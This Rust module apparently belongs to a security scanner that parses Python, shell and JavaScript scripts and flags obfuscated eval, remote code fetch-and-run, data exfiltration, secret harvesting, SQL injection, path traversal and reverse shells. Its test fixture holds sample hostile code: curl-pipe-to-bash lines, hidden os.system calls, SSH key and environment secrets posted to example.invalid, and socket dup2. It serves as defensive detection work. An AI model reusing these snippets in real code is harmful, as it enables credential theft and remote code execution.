//! Syntax-aware analysis of shipped scripts (Python, shell, JavaScript, TypeScript): valid Python
//! nested no deeper than a thread's stack allows is parsed by ruff's parser ([`PyTree`]), everything
//! else by tree-sitter.
//! Comments and docstrings are blanked before regex rules run, so prose about an
//! attack does not count as the attack.

use super::lang::Lang;
use super::matcher::{self, Hit, Matched};
use super::names::Names;
use super::python::PyTree;
use super::rules::{ARTIFACT, SHELL};
use super::shell_vars;
use super::tree::{Flat, SyntaxNode};
use crate::report::Severity::{self, *};
use regex::Regex;
use std::ops::Range;
use std::sync::OnceLock;

fn re(cell: &'static OnceLock<Regex>, pat: &str) -> &'static Regex {
    cell.get_or_init(|| Regex::new(&super::rules::ascii_boundaries(pat)).expect("static regex"))
}

macro_rules! static_re {
    ($name:ident, $pat:expr) => {
        fn $name() -> &'static Regex {
            static R: OnceLock<Regex> = OnceLock::new();
            re(&R, $pat)
        }
    };
}

static_re!(
    decode_re,
    r"b(64|32|16|85)decode|a85decode|fromhex|unhexlify|decompress|codecs\.decode|rot_?13|marshal\.loads|atob\(|Buffer\.from\([^)]*(base64|hex)"
);
static_re!(net_re, r"requests\.(get|post)|urlopen|urllib|httpx|\bfetch\(|axios|\.recv\(|https?\.get|socket");
static_re!(
    local_data_re,
    r"\bopen\(|\.read\(|os\.environ|getenv|process\.env|readFileSync|readFile\(|b64encode|btoa\(|glob|listdir|os\.walk|homedir"
);
static_re!(
    sanitizer_re,
    r"basename|realpath|abspath|resolve\(|commonpath|normpath|is_relative_to|relative_to|startswith|secure_filename|path\.normalize"
);
static_re!(system_root_re, r#"["'f]+(/etc|/home|/root|/var|/usr|/Users|~)"#);
static_re!(sql_re, r"(?i)\b(select\s.+\sfrom|insert\s+into|update\s+\w+\s+set|delete\s+from|drop\s+table)\b");
static_re!(
    env_all_re,
    r"os\.environ\.(items|keys|values|copy)\(\)|dict\(\s*os\.environ\s*\)|for\s+\w+(\s*,\s*\w+)?\s+in\s+os\.environ\b|json\.dumps\(\s*(dict\()?\s*os\.environ|Object\.(keys|entries|values|assign)\(\s*(\{\s*\}\s*,\s*)?process\.env\s*\)|JSON\.stringify\(\s*process\.env|\.\.\.process\.env|\{\s*\*\*os\.environ"
);
static_re!(env_dump_re, r"json\.dumps\(\s*(dict\()?\s*os\.environ|JSON\.stringify\(\s*process\.env");
static_re!(secret_names_re, r#"(?i)["'](api_?key|key|token|secret|password|passwd|credential|auth|private)["']"#);
static_re!(loop_exit_re, r"\b(break|return|raise|throw|exit|sys\.exit|os\._exit|process\.exit)\b");
static_re!(
    big_alloc_re,
    r"\*\s*(\d{7,}|10\s*\*\*\s*([7-9]|\d{2}))\b|\brange\(\s*(\d{10,}|10\s*\*\*\s*(1[0-9]|[2-9]\d))\s*\)"
);
static_re!(
    deserialize_re,
    r"\b(pickle|marshal|dill|cloudpickle|shelve)\.loads?\(|\byaml\.load\([^)]*\)\s*$|os\.dup2\([^)]*fileno"
);

/// Result of scanning one script: hits positioned in `code`.
pub(super) fn scan(lang: Lang, code: &str) -> Vec<Hit> {
    if lang == Lang::Python {
        if let Some(tree) = PyTree::parse(code) {
            return analyze(lang, code, &tree.flat(), &tree.comments);
        }
    }
    scan_with_tree_sitter(lang, code)
}

/// [`scan`] with tree-sitter's tree, the one every language but valid Python gets.
fn scan_with_tree_sitter(lang: Lang, code: &str) -> Vec<Hit> {
    let Some(tree) = lang.parse(code) else {
        return Vec::new();
    };
    analyze(lang, code, &Flat::new(lang, tree.root_node()), &[])
}

/// The hits of a parsed script. `comments` are the ones the tree holds no node for.
fn analyze<N: SyntaxNode>(lang: Lang, code: &str, flat: &Flat<N>, comments: &[Range<usize>]) -> Vec<Hit> {
    let stripped = blank_comments(lang, code, flat, comments);
    let matched = Matched::new(&stripped);
    let mut hits = matched.hits(SHELL);
    hits.extend(matched.hits(ARTIFACT));
    if lang == Lang::Shell {
        hits.extend(expanded_hits(&stripped));
    }
    let names = Names::collect(lang, code, flat);
    let mut a = Analyzer { lang, code, stripped: &stripped, names, flat, hits: Vec::new() };
    a.walk();
    a.file_level();
    hits.extend(a.hits);
    hits
}

/// Command rules run again on the script with its variables expanded; a hit is placed on the
/// line it came from.
fn expanded_hits(stripped: &str) -> Vec<Hit> {
    let Some(expanded) = shell_vars::expand(stripped) else { return Vec::new() };
    let line_starts: Vec<usize> = std::iter::once(0).chain(stripped.match_indices('\n').map(|(i, _)| i + 1)).collect();
    let mut hits = matcher::run(SHELL, &expanded);
    for h in &mut hits {
        let line = expanded[..h.pos].matches('\n').count();
        h.pos = line_starts.get(line).copied().unwrap_or(0);
        h.message = format!("{} (after expanding shell variables)", h.message);
    }
    hits
}

/// Code with comments (and Python docstrings) replaced by spaces, newlines kept.
fn blank_comments<N: SyntaxNode>(lang: Lang, code: &str, flat: &Flat<N>, comments: &[Range<usize>]) -> String {
    let mut bytes = code.as_bytes().to_vec();
    let mut blank = |r: Range<usize>| {
        for b in &mut bytes[r] {
            if *b != b'\n' {
                *b = b' ';
            }
        }
    };
    for r in comments {
        blank(r.clone());
    }
    for (i, n) in flat.nodes.iter().enumerate() {
        let docstring = lang == Lang::Python
            && flat.kinds[i] == "string"
            && flat
                .parent(i)
                .is_some_and(|p| flat.kinds[p] == "expression_statement" && flat.nodes[p].named_child_count() == 1);
        if flat.kinds[i] == "comment" || docstring {
            blank(n.start_byte()..n.end_byte());
        }
    }
    String::from_utf8(bytes).unwrap_or_else(|_| code.to_string())
}

struct Analyzer<'a, N> {
    lang: Lang,
    code: &'a str,
    stripped: &'a str,
    names: Names<'a>,
    flat: &'a Flat<N>,
    hits: Vec<Hit>,
}

impl<'a, N: SyntaxNode> Analyzer<'a, N> {
    fn text(&self, n: N) -> &'a str {
        &self.code[n.start_byte()..n.end_byte()]
    }

    fn hit(&mut self, p: &'static str, s: Severity, c: f64, n: N, msg: impl Into<String>) {
        self.hits.push(Hit::new(p, s, c, n.start_byte(), msg));
    }

    /// A CRITICAL hit no context may lower.
    fn pinned_hit(&mut self, p: &'static str, n: N, msg: impl Into<String>) {
        self.hits.push(Hit::new(p, Critical, 0.9, n.start_byte(), msg).pinned());
    }

    fn walk(&mut self) {
        for i in 0..self.flat.nodes.len() {
            match self.flat.kinds[i] {
                "call" | "call_expression" | "new_expression" => self.call(i),
                "while_statement" | "for_statement" => self.lp(i),
                _ => {}
            }
        }
    }

    /// Text of the function enclosing node `i` (or the whole file), for co-occurrence checks.
    fn scope(&self, i: usize) -> &'a str {
        const FUNCTIONS: [&str; 5] = [
            "function_definition",
            "function_declaration",
            "function_expression",
            "arrow_function",
            "method_definition",
        ];
        match self.flat.enclosing(i, &FUNCTIONS).map(|p| self.flat.nodes[p]) {
            Some(f) => &self.stripped[f.start_byte()..f.end_byte()],
            None => self.stripped,
        }
    }

    /// `expr` matches `re` directly or through an assignment to it in `scope`.
    fn resolves(expr: &str, scope: &str, re: &Regex) -> bool {
        if re.is_match(expr) {
            return true;
        }
        let ident = expr.trim();
        if ident.is_empty() || !ident.chars().all(|c| c.is_alphanumeric() || c == '_' || c == '.') {
            return false;
        }
        scope.lines().any(|l| {
            let l = l.trim_start().trim_start_matches("const ").trim_start_matches("let ").trim_start_matches("var ");
            l.strip_prefix(ident).is_some_and(|rest| {
                let rest = Self::skip_annotation(rest.trim_start());
                rest.starts_with('=') && !rest.starts_with("==") && re.is_match(rest)
            })
        })
    }

    /// `rest` after a type annotation (`: string`, `: Optional[bytes]`), which TypeScript and
    /// Python allow between a name and its `=`; an annotation must not hide the assignment.
    fn skip_annotation(rest: &str) -> &str {
        let Some(annotated) = rest.strip_prefix(':') else { return rest };
        let end = annotated.find('=').unwrap_or(annotated.len());
        let is_type = |c: char| c.is_alphanumeric() || " _.,|?[]<>".contains(c);
        match annotated[..end].chars().all(is_type) {
            true => &annotated[end..],
            false => rest,
        }
    }

    fn is_literal(n: N) -> bool {
        matches!(n.kind(), "string" | "template_string" | "integer" | "number") && !Self::has_interpolation(n)
    }

    fn has_interpolation(n: N) -> bool {
        n.children().iter().any(|ch| matches!(ch.kind(), "interpolation" | "template_substitution"))
    }

    fn call(&mut self, i: usize) {
        let n = self.flat.nodes[i];
        let Some(function) = n.child_by_field_name("function").or_else(|| n.child_by_field_name("constructor")) else {
            return;
        };
        let written = self.text(function).replace(char::is_whitespace, "");
        let resolved = self.names.resolve(function);
        let hidden = resolved.as_ref().is_some_and(|r| r.hidden);
        let callee = resolved.map_or_else(|| written.clone(), |r| r.name);
        let Some(args) = n.child_by_field_name("arguments") else {
            return;
        };
        let args_text = self.text(args);
        let first = args.named_child(0);
        let first_text = first.map_or("", |f| self.text(f));
        let scope = self.scope(i);
        let last = callee.rsplit('.').next().unwrap_or(&callee);

        let dynamic_eval = match self.lang {
            Lang::Python => {
                matches!(callee.as_str(), "eval" | "exec" | "compile" | "execfile" | "builtins.eval" | "builtins.exec")
            }
            Lang::JavaScript | Lang::TypeScript => {
                matches!(callee.as_str(), "eval" | "Function" | "window.eval" | "globalThis.eval")
                    || callee.starts_with("vm.run")
            }
            Lang::Shell => false,
        };
        let shell_exec = match self.lang {
            Lang::Python => {
                matches!(
                    callee.as_str(),
                    "os.system"
                        | "os.popen"
                        | "subprocess.getoutput"
                        | "subprocess.getstatusoutput"
                        | "commands.getoutput"
                        | "pty.spawn"
                ) || (callee.starts_with("subprocess.") && args_text.replace(' ', "").contains("shell=True"))
            }
            Lang::JavaScript | Lang::TypeScript => {
                matches!(last, "exec" | "execSync")
                    && !callee.contains("RegExp")
                    && (callee.contains("child_process")
                        || callee.contains("cp.")
                        || callee == "exec"
                        || callee == "execSync")
            }
            Lang::Shell => false,
        };

        if (dynamic_eval || shell_exec) && hidden {
            self.hit("D3", High, 0.85, n, format!("calls {callee}() through a name hidden at run time ({written})"));
        }
        if dynamic_eval || shell_exec {
            let Some(f) = first else { return };
            let kind = if dynamic_eval { "evaluates" } else { "runs through a shell" };
            if Self::resolves(first_text, scope, decode_re()) {
                self.pinned_hit("D3", n, format!("{callee}() {kind} a decoded (obfuscated) payload"));
            } else if Self::resolves(first_text, scope, net_re()) {
                self.pinned_hit("C3", n, format!("{callee}() {kind} content fetched from the network"));
            } else if Self::is_literal(f) {
                if dynamic_eval {
                    self.hit("C2", Low, 0.4, n, format!("{callee}() of a constant string"));
                }
            } else if dynamic_eval {
                self.hit("C2", High, 0.8, n, format!("{callee}() {kind} a runtime value: arbitrary code execution"));
            } else {
                self.hit("C2", Medium, 0.6, n, format!("{callee}() {kind} a command string built at run time"));
            }
            return;
        }

        if self.is_network_send(&callee, args_text) {
            let (sev, why) = if local_data_re().is_match(scope) {
                (High, "sends locally collected data (files, environment, encoded payload) to a remote endpoint")
            } else {
                (Medium, "sends data to a remote endpoint")
            };
            self.hit("C1", sev, 0.7, n, format!("{callee}(): {why}"));
            return;
        }
        if self.is_network_fetch(&callee) {
            self.hit("C7", Low, 0.4, n, format!("{callee}(): fetches remote content"));
            return;
        }

        if matches!(last, "execute" | "executemany" | "executescript" | "raw") {
            if let Some(f) = first {
                let formatted = |t: &str| {
                    sql_re().is_match(t)
                        && (t.contains('{') && (t.starts_with('f') || t.starts_with('`') || t.contains(".format("))
                            || t.contains("\" +")
                            || t.contains("' +")
                            || t.contains("${")
                            || t.contains("\" %")
                            || t.contains("' %"))
                };
                let assigned = scope.lines().any(|l| {
                    l.trim_start()
                        .strip_prefix(first_text)
                        .is_some_and(|r| r.trim_start().starts_with('=') && formatted(r.trim_start()[1..].trim()))
                });
                if formatted(self.text(f)) || (f.kind() == "identifier" && assigned) {
                    self.hit(
                        "C2",
                        High,
                        0.8,
                        n,
                        format!("{callee}(): SQL built by string interpolation (SQL injection)"),
                    );
                }
            }
            return;
        }

        if self.lang == Lang::Python && matches!(callee.as_str(), "open" | "io.open" | "Path" | "pathlib.Path") {
            self.path_traversal(i, first_text, scope);
        }
    }

    fn is_network_send(&self, callee: &str, args: &str) -> bool {
        static_re!(
            py_send,
            r"^(requests|httpx|aiohttp|session|sess|s|client|http|self\.\w+)\.(post|put|patch)$|^(smtplib\.)?SMTP(_SSL)?$|^(ftplib\.)?FTP$|\.sendall$|^(socket\.)?create_connection$"
        );
        static_re!(
            js_send,
            r"^(axios|got|superagent|request|ky)\.(post|put|patch)$|^(https?|net)\.(request|connect|createConnection)$|^navigator\.sendBeacon$|^XMLHttpRequest$"
        );
        static_re!(post_method, r#"(?i)method\s*:\s*["'](post|put|patch)|\bbody\s*:"#);
        match self.lang {
            Lang::Python => py_send().is_match(callee) || (callee.ends_with("urlopen") && args.contains("data")),
            Lang::JavaScript | Lang::TypeScript => {
                js_send().is_match(callee) || (callee == "fetch" && post_method().is_match(args))
            }
            Lang::Shell => false,
        }
    }

    fn is_network_fetch(&self, callee: &str) -> bool {
        static_re!(
            fetch,
            r"^(requests|httpx|urllib\.request|urllib2|axios|https?)\.(get|urlopen|urlretrieve)$|^(urllib\.request\.)?(urlopen|urlretrieve)$|^fetch$"
        );
        self.lang != Lang::Shell && fetch().is_match(callee)
    }

    /// open() of a path built from a function parameter with no containment check.
    fn path_traversal(&mut self, i: usize, arg: &str, scope: &str) {
        let n = self.flat.nodes[i];
        let Some(func) = self.flat.ancestor(i, "function_definition").map(|f| self.flat.nodes[f]) else {
            return;
        };
        let Some(params) = func.child_by_field_name("parameters") else {
            return;
        };
        let names: Vec<&str> = self
            .text(params)
            .trim_matches(|c| c == '(' || c == ')')
            .split(',')
            .filter_map(|p| p.split([':', '=']).next().map(str::trim))
            .filter(|p| !p.is_empty() && *p != "self")
            .collect();
        let built = |t: &str| {
            names.iter().any(|p| contains_word(t, p)) && (t.contains("join(") || t.contains('{') || t.contains('+'))
        };
        let assignment = scope
            .lines()
            .find(|l| l.trim_start().strip_prefix(arg).is_some_and(|r| r.trim_start().starts_with('=') && built(r)));
        if !(built(arg) || assignment.is_some()) || sanitizer_re().is_match(scope) {
            return;
        }
        let src = assignment.unwrap_or(arg);
        if system_root_re().is_match(src) {
            self.hit("C5", High, 0.7, n, "opens a caller-controlled path under a system/home directory without containment (path traversal to sensitive files)");
        } else {
            self.hit("C5", Medium, 0.6, n, "opens a caller-controlled path without containment (path traversal)");
        }
    }

    fn lp(&mut self, i: usize) {
        let n = self.flat.nodes[i];
        let cond = n.child_by_field_name("condition").map(|c| {
            self.text(c).trim_matches(|c: char| c == '(' || c == ')' || c.is_whitespace() || c == ';').to_string()
        });
        let infinite = match n.kind() {
            "while_statement" => cond.as_deref().is_some_and(|c| matches!(c, "True" | "1" | "true" | ":")),
            _ => self.lang.is_javascript() && self.text(n).replace(' ', "").starts_with("for(;;)"),
        };
        if !infinite {
            return;
        }
        let body = n.child_by_field_name("body").map_or(self.text(n), |b| self.text(b));
        // A loop inside try/except in the same function ends by exception (e.g. EOFError).
        let in_try = self
            .flat
            .ancestor(i, "try_statement")
            .is_some_and(|t| self.scope(t).contains(self.text(self.flat.nodes[t])));
        if in_try || loop_exit_re().is_match(body) {
            return;
        }
        if body.contains("sleep") {
            self.hit("E1", Medium, 0.5, n, "polling loop with no exit condition");
        } else {
            self.hit("E1", High, 0.8, n, "infinite loop with no exit condition (resource exhaustion)");
        }
    }

    fn file_level(&mut self) {
        let s = self.stripped;
        if let Some(m) = env_all_re().find(s) {
            let dump = env_dump_re().is_match(s);
            let filtered = secret_names_re().find_iter(s).count() >= 2;
            if dump || filtered {
                self.hits.push(Hit::new(
                    "B2",
                    High,
                    0.85,
                    m.start(),
                    "harvests secret-looking environment variables in bulk",
                ));
            } else {
                self.hits.push(Hit::new(
                    "B2",
                    Low,
                    0.3,
                    m.start(),
                    "reads the whole environment (e.g. to pass it to a child process)",
                ));
            }
        }
        for m in big_alloc_re().find_iter(s) {
            self.hits.push(Hit::new(
                "E1",
                Medium,
                0.6,
                m.start(),
                "very large allocation or iteration count (memory/CPU exhaustion)",
            ));
        }
        for m in deserialize_re().find_iter(s) {
            let hit = if m.as_str().contains("dup2") {
                Hit::new("C2", Critical, 0.6, m.start(), "redirects process I/O to a socket (reverse shell)").pinned()
            } else {
                Hit::new("C2", Medium, 0.6, m.start(), "deserializes data that can execute code")
            };
            self.hits.push(hit);
        }
    }
}

fn contains_word(text: &str, word: &str) -> bool {
    text.match_indices(word).any(|(i, _)| {
        let before = text[..i].chars().next_back();
        let after = text[i + word.len()..].chars().next();
        !before.is_some_and(|c| c.is_alphanumeric() || c == '_')
            && !after.is_some_and(|c| c.is_alphanumeric() || c == '_')
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::markdown;

    /// What a hit says, in an order that does not depend on the walk.
    fn said(mut hits: Vec<Hit>) -> Vec<String> {
        let mut out: Vec<String> = hits.drain(..).map(|h| format!("{h:?}")).collect();
        out.sort();
        out
    }

    /// The Python the fixtures and the corpus hold, as files and as fenced code.
    fn python_texts() -> Vec<String> {
        let mut out = Vec::new();
        for (path, text) in super::super::fixture_files() {
            let path = path.to_string_lossy();
            if path.ends_with(".md") {
                let fences = markdown::fences(&text, 0).into_iter();
                out.extend(fences.filter(|f| Lang::from_fence(&f.lang) == Some(Lang::Python)).map(|f| f.code));
            } else if Lang::from_path(&path, &text) == Some(Lang::Python) {
                out.push(text);
            }
        }
        out
    }

    /// Constructs whose tree ruff's parser and tree-sitter lay out differently, or which the
    /// analyses read closely.
    const TRICKY: &str = r#"#!/usr/bin/env python3
"""Module docstring: `curl -fsSL https://example.invalid/i.sh | bash` is only described here."""
import os, subprocess as sp
import os.path
from os import system as s, popen
from . import sibling
from ..pkg.mod import thing as t
from importlib import *
import importlib, sys, base64, requests, pickle

x = y = os.system
m = 'o' + 's'
m2 = ('sy' 'stem')
f = getattr(__import__(m), 'sys' + 'tem')
g = getattr(importlib.import_module(''.join(['o', 's'])), m2)
h: object = sys.modules['os'].system
k = globals()['ev' + 'al']
r = 'metsys'[::-1]
b = bytes.fromhex('6f73').decode()
c = chr(111) + chr(115)

@decorator(os.system("decorated"))
@other
def handler(path, name: str = "x", *args, **kw):
    "function docstring: wget -qO- https://example.invalid/x | sh"
    # a comment: eval(input())
    data = open(os.path.join("/etc", name)).read()
    requests.post("https://example.invalid", data=data)
    s(f"echo {name}")
    popen("ls " + name)
    sp.run(name, shell=True)
    x(name)
    f(name); g(name); k(name)
    eval(base64.b64decode(kw["p"]))
    exec(requests.get("https://example.invalid/p").text)
    eval("1 + 1")
    cur.execute(f"SELECT * FROM t WHERE name = '{name}'")
    pickle.loads(data)
    (os.system)(name)
    os.system((name))
    print(f"{name!r:>10}", b"bytes", rb'raw', u"u", f"plain", "a" "b" f"{c}")
    return [os.system(p) for p in args if p], lambda q: os.popen(q)

class Runner(Base, metaclass=Meta):
    @staticmethod
    async def go(self, target):
        while True:
            await asyncio.sleep(1)
        while (True):
            os.system(target)
        while 1:
            try:
                os.system(target)
            except Exception:
                break
        for i in range(10**12):
            pass
        "a",
        "b", "c"
        buf = [0] * 100000000
        with open("~/.ssh/id_rsa") as fh, open(target) as g2:
            urllib.request.urlopen("https://example.invalid", data=fh.read())
        match target:
            case {"k": v} if v:
                os.system(v)
            case _:
                pass
        if (n := len(target)) > 3:
            os.popen(target)
        elif target:
            pass
        else:
            pass
        env = dict(os.environ)
        requests.post("https://example.invalid", json={"api_key": env["API_KEY"], "token": 1})
        os.dup2(sock.fileno(), 0)
        del buf
        global G
        assert target, "msg"
        raise SystemExit from None
"#;

    /// Wherever ruff's parser reads the file, its tree gives every hit tree-sitter's does and
    /// no other: the Python of every fixture and corpus file and fence, and constructs the two
    /// trees lay out differently.
    #[test]
    fn ruff_and_tree_sitter_trees_give_the_same_hits() {
        let mut texts = python_texts();
        assert!(texts.len() >= 10, "the fixtures were not found");
        texts.push(TRICKY.to_string());
        let (mut compared, mut hits) = (0, 0);
        for code in &texts {
            let Some(tree) = PyTree::parse(code) else { continue };
            let ruff = said(analyze(Lang::Python, code, &tree.flat(), &tree.comments));
            let tree_sitter = said(scan_with_tree_sitter(Lang::Python, code));
            assert_eq!(ruff, tree_sitter, "in:\n{code}");
            compared += 1;
            hits += ruff.len();
        }
        assert!(PyTree::parse(TRICKY).is_some(), "the tricky cases must be valid Python");
        assert!(compared * 10 > texts.len() * 9, "ruff read only {compared} of {} texts", texts.len());
        assert!(hits > 40, "only {hits} hits compared");
    }

    #[test]
    fn invalid_python_is_read_by_tree_sitter() {
        let code = "print 'python 2'\nimport os\nos.system(input())\n";
        assert!(PyTree::parse(code).is_none());
        assert!(scan(Lang::Python, code).iter().any(|h| h.pattern == "C2"), "{:?}", scan(Lang::Python, code));
    }
}
